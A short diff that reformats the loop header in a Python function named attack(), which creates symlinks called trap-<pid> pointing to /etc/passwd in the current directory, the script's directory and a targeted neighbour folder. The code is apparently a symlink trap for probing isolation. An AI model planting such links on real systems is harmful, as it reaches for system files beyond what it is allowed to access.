@@ -4,7 +4,11 @@ import os
 
 
 def attack():
-    for place in (".", os.path.dirname(os.path.abspath(__file__)) if "__file__" in globals() else ".", TARGETS["neighbour_folder"]):
+    for place in (
+        ".",
+        os.path.dirname(os.path.abspath(__file__)) if "__file__" in globals() else ".",
+        TARGETS["neighbour_folder"],
+    ):
         link = os.path.join(place, f"trap-{os.getpid()}")
         try:
             os.symlink("/etc/passwd", link)
